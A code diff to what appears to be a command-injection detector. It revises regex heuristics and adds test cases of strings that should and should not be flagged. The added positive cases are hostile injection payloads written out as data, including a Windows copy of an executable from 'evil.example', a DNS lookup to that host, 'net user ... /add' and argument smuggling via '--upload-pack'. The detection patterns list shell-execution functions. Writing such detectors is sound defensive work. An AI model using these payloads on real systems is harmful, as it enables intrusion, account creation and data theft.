@@ -1,25 +1,17 @@
 import { defineAttack } from '../define-attack.ts';
 import { commandsOf } from '../languages/shell/commands.ts';
+import { disguisedIn } from '../languages/shell/disguises.ts';
+import { codeIn } from '../languages/shell/runners.ts';
 import { commands, commonWords } from '../languages/shell/words.ts';
 import { sign } from '../signs.ts';
-
-/** Functions of scripting languages that hand text to a shell or run it. */
-const runner =
-  /(?<![.>#])\b(?:system|passthru|popen|exec|spawn)\(\s*(?:["'`$%@&_\\]|[a-z]\w*\s*[([]|base64)|\b(?:shell_exec|proc_open|pcntl_exec|execsync|spawnsync|(?:os|io)\.popen|os\.system|system\.diagnostics\.process\.start|subprocess\.\w+|__import__|execfile|processbuilder|child_process)\((?!\d?\))|\bphpinfo\(|\bgetruntime\b|\bforname\(['"]java\.lang\.processbuilder|<\?(?:php|=)|\brequire\s*\(\s*['"]child_process|\bimport\s*\(\s*['"]child_process|\beval\s*\(\s*(?:['"](?:ls|sleep|whoami|id|uname|cat|pwd)\b|\$_|base64_decode|gzinflate|str_rot13|request\b|compile)/i;
-
-/** Code that leaves the string it stands in by the sign that joins texts in PHP, or by the end of a statement, and calls something there. */
-const leavesCode =
-  /^[^'"]{0,80}['"]\)?\s*(?:\.\s*(?:system|exec|passthru|shell_exec|phpinfo|print|md5|eval|assert|exit|die)|;\s*(?:system|passthru|shell_exec|phpinfo|assert|exit|die))\s*\(/i;
-
-/** Behind a separator, or at the beginning: a loop of Windows over what another command says, a program by a path of wildcards, words put together from variables. */
-const disguised =
-  /(?:^|[;|&\n`])\s{0,4}(?:for\s{1,4}\/[dflr]\s[^\n]{0,80}%{1,2}[a-z]\s{1,4}in\s{0,4}\(|\/\?{2,}[?*a-z]{0,12}\/[?*a-z]{0,12}\?|(?:\$\{?[a-z]\w{0,15}\}?){2,4}\s+(?:\/[a-z]|-[a-z]))/i;
 
 /** What people tell each other to type: a tool, with neither a path from the root nor code for it to run. */
 const everyday =
   /^\s{0,8}(?:wget|curl|chmod|chown|python3?|gcc|[ef]?grep|sed|openssl|scp|ssh|rsync|psql|mysql|kubectl|systemctl|mkdir|rmdir|rm|cp|mv|ln|ls|df|du|ps|sudo|docker|make|tar|zip|unzip)(?=\s)(?!.{0,200}(?:\s["'=]?(?:\/|[a-z]:\\|-[a-z]*[ce]\s)|[|&;<>`$]))/i;
 
 const sentence = /(?:\p{L}{2,20}[,;:]?\s{1,3}){4}\p{L}|[\u3040-\u30ff\u4e00-\u9fff]{6}/u;
+const windowsTool = /^\s{0,8}(?:net|reg)\s/i;
+const threeWords = /^(?:\s+-{1,2}\w[\w-]{0,16})?(?:\s+\p{L}[\p{L}’']{1,20}[,;]?){3}/u;
 const sentenceEnd = /[\p{L})"'»«“”][.!?…。][)"'»«“”]?\s*$/u;
 const sentenceMax = 400;
 const spanMax = 200;
@@ -81,34 +73,38 @@ export const commandInjection = defineAttack({
   look({ text, signs }, _field, note) {
     // Lines between fences are code that somebody shows.
     const isDocument = (signs & sign.backtick) !== 0 && text.includes('```');
-    for (const { lead, isCommon, hasArguments, hasPlainArguments, hasFile, isAlone, isListed, isByPath, start, end } of commandsOf(text)) {
+    for (const command of commandsOf(text)) {
+      const { lead, isCommon, hasArguments, hasPlainArguments, hasFile, isAlone, isListed, isByPath, isTelling, start, end } = command;
+      const isBehind = start < 2;
       const isStrong = !isCommon || isByPath;
-      if (lead === 'line' && (isDocument || (isCommon && isWrapped(text, start, end)))) continue;
+      if (lead === 'line' && (isDocument || ((isCommon || command.isName) && isWrapped(text, start, end)))) continue;
       if (lead === 'semicolon' && !hasArguments && !isAlone && wordsOf(text.slice(Math.max(0, start - spanMax), start)) >= wordsOfSentence)
         continue;
       if (lead === 'start') {
         if (
           hasPlainArguments &&
           (isStrong ||
-            /^\s*(?:net|reg)\s/i.test(text) ||
-            /^\s*(?:cat|ping|echo|find|head|tail|nmap|dig|host|type|dir)\s+(?:-|\/|\\|\.\.|["'$]|[a-z]:|\d)/i.test(text))
+            windowsTool.test(text) ||
+            /^\s*(?:cat|ping|echo|find|head|tail|nmap|dig|host|type|dir)\s+(?:-|\/|\\|\.\.|["'$]|[a-z]:|\d|%\w)/i.test(text))
         )
           note(isEveryday(text) || isSentence(text, end) ? 'bare-tool' : 'bare-command', start, end);
         else if (isByPath && isAlone) note('by-path', start, end);
         continue;
       }
       if (lead === 'backtick') {
-        if ((isStrong || hasArguments || hasFile || isAlone) && !isMarked(text, start, end)) note('substituted', start, end);
+        const isRun = (isStrong && !command.isName) || hasArguments || hasFile || (isAlone && isTelling) || isBehind;
+        if (isRun && !isMarked(text, start, end)) note('substituted', start, end);
         continue;
       }
-      if (lead === 'pipe' && isListed && !isByPath && !hasPlainArguments) continue;
+      if (lead === 'pipe' && isListed && !isByPath && !hasPlainArguments && !(isBehind && isTelling)) continue;
       if (lead === 'substitution') {
-        if (isStrong || hasArguments || hasFile || isAlone) note('substituted', start, end);
-      } else if (isStrong && ((lead !== 'ampersand' && lead !== 'line') || hasArguments || isAlone || start < 2))
+        if (isStrong || hasArguments || hasFile || (isAlone && isTelling)) note('substituted', start, end);
+      } else if (isStrong && (hasArguments || isAlone || isBehind || !(command.isName || lead === 'ampersand' || lead === 'line')))
         note('chained', start, end);
       else if (hasPlainArguments) note('chained', start, end);
       else if (
         isAlone &&
+        isTelling &&
         (lead !== 'ampersand' || start < 3) &&
         (lead !== 'line' || start < 3) &&
         !/\w\s+\S*\w\W*\s|[a-z];\s/i.test(text.slice(0, start + 1))
@@ -139,9 +135,9 @@ export const commandInjection = defineAttack({
     if (shock) note('shellshock', shock.index, text.length);
     const include = (signs & sign.less) === 0 ? null : /<!--#(?:exec|include|echo|config|printenv|set)\b/i.exec(text);
     if (include) note('include', include.index, include.index + include[0].length);
-    const hidden = (signs & (sign.percent | sign.slash | sign.dollar)) === 0 ? null : disguised.exec(text);
+    const hidden = disguisedIn(text);
     if (hidden) note('chained', hidden.index, hidden.index + hidden[0].length);
-    const code = (signs & (sign.paren | sign.less)) === 0 ? null : (runner.exec(text) ?? leavesCode.exec(text));
+    const code = (signs & (sign.paren | sign.less | sign.colon | sign.percent)) === 0 ? null : codeIn(text);
     if (code) note('code', code.index, code.index + code[0].length);
   },
   worst: (length) => ';id '.repeat(Math.ceil(length / 4)).slice(0, length),
@@ -179,6 +175,24 @@ export const commandInjection = defineAttack({
       'name"\nid\necho "',
       '$(cat notes.txt)',
       '`id 1>&2`',
+      ';/bin/c?t notes.txt',
+      ";$'\\x69\\x64'",
+      ';x=i;y=d;$x$y',
+      ';if [ 7 = 7 ];then sleep 9;fi',
+      ';find / -name orders.csv',
+      ';w$()hoami',
+      '& copy \\\\evil.example\\x a.exe',
+      '; Get-Content c:\\orders.csv',
+      ';$env:PATH',
+      '& %COMSPEC% /c ver',
+      ';dig evil.example',
+      ';exec id',
+      ';. /srv/orders.sh',
+      '--upload-pack=touch /tmp/x',
+      "array_map('system', array('id'))",
+      '%x(id)',
+      '|id|',
+      'net user jane Secret-1 /add',
     ],
     misses: [
       '**/?(*.)+(spec|test).+(ts|js)',
@@ -223,6 +237,22 @@ export const commandInjection = defineAttack({
       '.items[] | select(.status == "open") | {id, name: .metadata.name}',
       'They can be found\nat https://shop.example/docs/more/, or be asked for.',
       'telnetlib: a client of Telnet\nTelnet',
+      'Fast and safe, for Rust & Python',
+      'Shop API | Python library for it',
+      'auto | first | last',
+      'Default: `true`',
+      'like `chown -R`',
+      "The programs `lsof' and `fuser' show it.",
+      "`Node`'s own name",
+      'as in\n   {Perl} or {Python}, which read it',
+      'registered&reg; trademarks of the shop',
+      'tail -f works on files that only grow',
+      'Languages: de | en | tr',
+      '{{ value|date }}',
+      'exec(command [, options])',
+      'What phpinfo(), the page, shows',
+      '--checkpoint-action=ACTION',
+      'print the list;\n  print $line;',
     ],
   },
 });
@@ -234,17 +264,14 @@ export const commandInjection = defineAttack({
 function isMarked(text: string, start: number, end: number): boolean {
   if (text.charCodeAt(start - 2) === 0x60 || text.charCodeAt(start) === 0x60) return true;
   const close = text.slice(end, end + spanMax).indexOf('`');
+  const inside = text.slice(start, end + Math.max(0, close));
+  if (onlyFlags.test(inside) && /\p{L}{2}\)? \(?$|^\W{0,4}$/u.test(text.slice(Math.max(0, start - 5), start - 1))) return close >= 0;
   const around = `${text.slice(Math.max(0, start - 1 - spanMax), start - 1)} ${close < 0 ? '' : text.slice(end + close + 1, end + close + 1 + spanMax)}`;
-  return (
-    wordsOf(around) >=
-    (text
-      .slice(start, end + Math.max(0, close))
-      .trim()
-      .includes(' ')
-      ? 3
-      : 2)
-  );
+  return wordsOf(around) >= (inside.trim().includes(' ') ? 3 : 2);
 }
+
+/** `ls -R`: nothing but how, where words speak of it. */
+const onlyFlags = /^[a-z][\w-]{0,20}(?: -{1,2}[a-z][\w-]{0,20}){1,3}$/i;
 
 function isEveryday(text: string): boolean {
   return everyday.test(text.slice(0, spanMax));
@@ -259,9 +286,13 @@ function isWrapped(text: string, start: number, end: number): boolean {
 
 const systemPath = /^[^\n]{0,40}[\s"']\/(?:etc|proc|bin|usr|dev|tmp|var|root|home)\b/;
 
-/** Whether a command is what a sentence begins with: words of people follow its arguments, up to a full stop. */
+/** Whether a command is what a sentence begins with: words of people follow its arguments, up to a full stop, or three of them at once. */
 function isSentence(text: string, from: number): boolean {
-  return sentenceEnd.test(text.slice(-reopenedMax)) && sentence.test(text.slice(from, from + sentenceMax));
+  const rest = text.slice(from, from + sentenceMax);
+  return (
+    (sentenceEnd.test(text.slice(-reopenedMax)) && sentence.test(rest)) ||
+    (threeWords.test(rest) && !/[|;&<>$`]/.test(rest) && !windowsTool.test(text))
+  );
 }
 
 function wordsOf(text: string): number {
